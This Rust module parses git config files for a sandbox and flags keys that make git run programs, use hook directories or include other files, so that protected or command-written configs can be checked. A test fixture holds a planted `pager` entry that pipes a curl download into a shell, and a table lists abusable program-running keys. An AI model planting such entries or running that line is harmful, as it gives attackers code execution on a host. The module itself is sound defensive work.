//! Just enough of git's config format to find what a config makes git run or read: the keys
//! that name programs, hook directories and included files. Used on configs the sandbox protects
//! (to protect what they point at inside a writable grant) and on configs a command wrote (to
//! decide whether git on the host could run something because of them).
//!
//! Unparseable input is an error, never "nothing found": git would refuse such a config too,
//! and the caller refuses the command instead of guessing.

/// One `section[.subsection].name = value`: section and name lower case, subsection as written.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Entry {
    pub section: String,
    pub subsection: Option<String>,
    pub name: String,
    pub value: String,
}

impl Entry {
    /// `section.name` or `section.*.name` (any subsection).
    fn key(&self) -> String {
        match &self.subsection {
            None => format!("{}.{}", self.section, self.name),
            Some(_) => format!("{}.*.{}", self.section, self.name),
        }
    }
}

/// What a value names.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Names {
    /// A shell command: its first word may be a path to a program.
    Program,
    /// A directory of hooks or templates.
    Dir,
    /// A file git reads more config or attributes from.
    File,
}

/// Keys whose values git runs, or reads more of the same from. Everything else is data.
const RUNS: &[(&str, Names)] = &[
    ("core.fsmonitor", Names::Program),
    ("core.sshcommand", Names::Program),
    ("core.editor", Names::Program),
    ("core.pager", Names::Program),
    ("core.askpass", Names::Program),
    ("core.gitproxy", Names::Program),
    ("core.alternaterefscommand", Names::Program),
    ("core.hookspath", Names::Dir),
    ("core.attributesfile", Names::File),
    ("sequence.editor", Names::Program),
    ("diff.external", Names::Program),
    ("diff.*.command", Names::Program),
    ("diff.*.textconv", Names::Program),
    ("difftool.*.cmd", Names::Program),
    ("difftool.*.path", Names::Program),
    ("mergetool.*.cmd", Names::Program),
    ("mergetool.*.path", Names::Program),
    ("merge.*.driver", Names::Program),
    ("filter.*.clean", Names::Program),
    ("filter.*.smudge", Names::Program),
    ("filter.*.process", Names::Program),
    ("credential.helper", Names::Program),
    ("credential.*.helper", Names::Program),
    ("gpg.program", Names::Program),
    ("gpg.*.program", Names::Program),
    ("uploadpack.packobjectshook", Names::Program),
    ("remote.*.uploadpack", Names::Program),
    ("remote.*.receivepack", Names::Program),
    ("interactive.difffilter", Names::Program),
    ("web.browser", Names::Program),
    ("browser.*.cmd", Names::Program),
    ("browser.*.path", Names::Program),
    ("man.*.cmd", Names::Program),
    ("man.*.path", Names::Program),
    ("trailer.*.command", Names::Program),
    ("trailer.*.cmd", Names::Program),
    ("guitool.*.cmd", Names::Program),
    ("submodule.*.update", Names::Program),
    ("init.templatedir", Names::Dir),
    ("include.path", Names::File),
    ("includeif.*.path", Names::File),
];

/// Keys a fresh repository (`git init`, `git clone`, `git remote add`, `git config user.*`)
/// writes, all data: a config a command wrote holding only these is inert.
const INERT: &[&str] = &[
    "core.repositoryformatversion",
    "core.filemode",
    "core.bare",
    "core.logallrefupdates",
    "core.ignorecase",
    "core.precomposeunicode",
    "core.symlinks",
    "core.autocrlf",
    "core.eol",
    "core.safecrlf",
    "core.quotepath",
    "core.compression",
    "core.sparsecheckout",
    "core.sparsecheckoutcone",
    "core.worktree",
    "core.sharedrepository",
    "core.untrackedcache",
    "core.splitindex",
    "index.version",
    "extensions.partialclone",
    "remote.*.promisor",
    "remote.*.partialclonefilter",
    "submodule.active",
    "extensions.objectformat",
    "extensions.refstorage",
    "extensions.worktreeconfig",
    "remote.*.url",
    "remote.*.pushurl",
    "remote.*.fetch",
    "remote.*.tagopt",
    "remote.*.mirror",
    "branch.*.remote",
    "branch.*.merge",
    "branch.*.rebase",
    "init.defaultbranch",
    "user.name",
    "user.email",
    "submodule.*.url",
    "submodule.*.active",
    "pull.rebase",
    "push.default",
    "fetch.prune",
    "lfs.repositoryformatversion",
];

/// What `e` makes git run or read, if anything. `alias.*` counts when it starts with `!` (a
/// shell command); so does `pager.*` (every value is a command).
pub(crate) fn names(e: &Entry) -> Option<Names> {
    let key = e.key();
    if e.section == "alias" {
        return e
            .value
            .trim_start()
            .starts_with('!')
            .then_some(Names::Program);
    }
    if e.section == "pager" {
        return Some(Names::Program);
    }
    RUNS.iter().find(|(k, _)| *k == key).map(|(_, n)| *n)
}

/// Whether `e` is plain data a fresh repository has.
pub(crate) fn inert(e: &Entry) -> bool {
    INERT.contains(&e.key().as_str())
}

/// The first word of a command value (quotes removed, a leading `!` dropped): a program path
/// when it contains a `/`.
pub(crate) fn program_path(value: &str) -> Option<String> {
    let v = value.trim_start().trim_start_matches('!').trim_start();
    let word: String = match v.chars().next()? {
        q @ ('"' | '\'') => v[1..].chars().take_while(|&c| c != q).collect(),
        _ => v.chars().take_while(|c| !c.is_whitespace()).collect(),
    };
    word.contains('/').then_some(word)
}

/// Parses a config file's text.
pub(crate) fn parse(text: &str) -> Result<Vec<Entry>, String> {
    let mut out = Vec::new();
    let mut section: Option<(String, Option<String>)> = None;
    let mut chars = text.chars().peekable();
    let mut line_no = 1usize;
    let err = |n: usize, what: &str| format!("line {n}: {what}");
    loop {
        // Skip blank space and comments between items.
        match chars.peek().copied() {
            None => break,
            Some('\n') => {
                line_no += 1;
                chars.next();
                continue;
            }
            Some(c) if c.is_whitespace() => {
                chars.next();
                continue;
            }
            Some('#' | ';') => {
                for c in chars.by_ref() {
                    if c == '\n' {
                        line_no += 1;
                        break;
                    }
                }
                continue;
            }
            Some('[') => {
                chars.next();
                let mut name = String::new();
                let mut sub = None;
                loop {
                    match chars.next() {
                        None | Some('\n') => return Err(err(line_no, "unterminated section")),
                        Some(']') => break,
                        Some('"') if sub.is_none() => {
                            let mut s = String::new();
                            loop {
                                match chars.next() {
                                    None | Some('\n') => {
                                        return Err(err(line_no, "unterminated subsection"))
                                    }
                                    Some('\\') => match chars.next() {
                                        None | Some('\n') => {
                                            return Err(err(line_no, "bad escape"))
                                        }
                                        Some(c) => s.push(c),
                                    },
                                    Some('"') => break,
                                    Some(c) => s.push(c),
                                }
                            }
                            sub = Some(s);
                        }
                        Some(c) if c.is_whitespace() => {}
                        Some(c) if sub.is_none() => name.push(c),
                        Some(_) => return Err(err(line_no, "text after a subsection")),
                    }
                }
                let name = name.to_ascii_lowercase();
                // `[section.sub]` (the old form) is `section "sub"`, lower-cased.
                let (name, sub) = match (name.split_once('.'), sub) {
                    (Some((s, rest)), None) => (s.to_string(), Some(rest.to_string())),
                    (_, sub) => (name, sub),
                };
                if name.is_empty()
                    || !name
                        .chars()
                        .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '.')
                {
                    return Err(err(line_no, "bad section name"));
                }
                section = Some((name, sub));
                continue;
            }
            Some(_) => {}
        }
        // key [= value]
        let Some((sec, sub)) = section.clone() else {
            return Err(err(line_no, "a key before any section"));
        };
        let mut key = String::new();
        while let Some(&c) = chars.peek() {
            if c.is_ascii_alphanumeric() || c == '-' {
                key.push(c);
                chars.next();
            } else {
                break;
            }
        }
        if key.is_empty() {
            return Err(err(line_no, "bad key"));
        }
        while chars.peek().is_some_and(|c| *c == ' ' || *c == '\t') {
            chars.next();
        }
        let mut value = String::new();
        match chars.peek().copied() {
            None | Some('\n') | Some('#') | Some(';') => value.push_str("true"),
            Some('=') => {
                chars.next();
                let (mut quoted, mut pending_space) = (false, String::new());
                while chars.peek().is_some_and(|c| *c == ' ' || *c == '\t') {
                    chars.next();
                }
                loop {
                    match chars.next() {
                        None => break,
                        Some('\n') => {
                            if quoted {
                                return Err(err(line_no, "unterminated quote"));
                            }
                            line_no += 1;
                            break;
                        }
                        Some(c @ ('#' | ';')) if !quoted => {
                            let _ = c;
                            for c in chars.by_ref() {
                                if c == '\n' {
                                    line_no += 1;
                                    break;
                                }
                            }
                            break;
                        }
                        Some('"') => {
                            value.push_str(&std::mem::take(&mut pending_space));
                            quoted = !quoted;
                        }
                        Some('\\') => {
                            value.push_str(&std::mem::take(&mut pending_space));
                            match chars.next() {
                                Some('\n') => line_no += 1,
                                Some('n') => value.push('\n'),
                                Some('t') => value.push('\t'),
                                Some('b') => {
                                    value.pop();
                                }
                                Some(c @ ('"' | '\\')) => value.push(c),
                                _ => return Err(err(line_no, "bad escape")),
                            }
                        }
                        Some(c) if c.is_whitespace() && !quoted => pending_space.push(c),
                        Some(c) => {
                            value.push_str(&std::mem::take(&mut pending_space));
                            value.push(c);
                        }
                    }
                }
            }
            Some(_) => return Err(err(line_no, "expected = after a key")),
        }
        out.push(Entry {
            section: sec,
            subsection: sub,
            name: key.to_ascii_lowercase(),
            value,
        });
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn keys_that_run_programs_are_found_in_every_spelling() {
        let text = "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = \"./tools/fsm\" # x\n\
                    [Core]\n  HooksPath = .husky\n[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\
                    [diff.pdf]\n\ttextconv = ../bin/pdf2txt\n[alias]\n\tst = status\n\tx = !./run.sh\n\
                    [include]\n\tpath = ../shared.inc\n[includeIf \"gitdir:~/w/\"]\n\tpath = w.inc\n\
                    [core]\n\tbare\n\teditor = vim \\\n  -n\n";
        let es = parse(text).unwrap();
        let found: Vec<(String, Option<Names>)> = es
            .iter()
            .map(|e| (format!("{}={}", e.key(), e.value), names(e)))
            .collect();
        assert_eq!(
            found,
            vec![
                ("core.repositoryformatversion=0".into(), None),
                ("core.fsmonitor=./tools/fsm".into(), Some(Names::Program)),
                ("core.hookspath=.husky".into(), Some(Names::Dir)),
                (
                    "filter.*.clean=git-lfs clean -- %f".into(),
                    Some(Names::Program)
                ),
                (
                    "diff.*.textconv=../bin/pdf2txt".into(),
                    Some(Names::Program)
                ),
                ("alias.st=status".into(), None),
                ("alias.x=!./run.sh".into(), Some(Names::Program)),
                ("include.path=../shared.inc".into(), Some(Names::File)),
                ("includeif.*.path=w.inc".into(), Some(Names::File)),
                ("core.bare=true".into(), None),
                ("core.editor=vim   -n".into(), Some(Names::Program)),
            ]
        );
        assert_eq!(program_path("./tools/fsm"), Some("./tools/fsm".into()));
        assert_eq!(program_path("!./run.sh arg"), Some("./run.sh".into()));
        assert_eq!(
            program_path("\"/opt/my tool/x\" -a"),
            Some("/opt/my tool/x".into())
        );
        assert_eq!(program_path("git-lfs clean"), None);
    }

    #[test]
    fn a_fresh_repository_config_is_inert_and_a_planted_one_is_not() {
        let fresh = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\
                     \tlogallrefupdates = true\n[remote \"origin\"]\n\turl = https://x/y.git\n\
                     \tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n";
        assert!(parse(fresh).unwrap().iter().all(inert));
        let planted = "[core]\n\trepositoryformatversion = 0\n\tpager = sh -c 'curl x|sh'\n";
        assert!(!parse(planted).unwrap().iter().all(inert));
    }

    #[test]
    fn broken_configs_are_errors() {
        for bad in [
            "key = x\n",
            "[core\nx=1\n",
            "[core]\nx = \"open\n",
            "[core]\n=1\n",
        ] {
            assert!(parse(bad).is_err(), "{bad:?}");
        }
    }
}
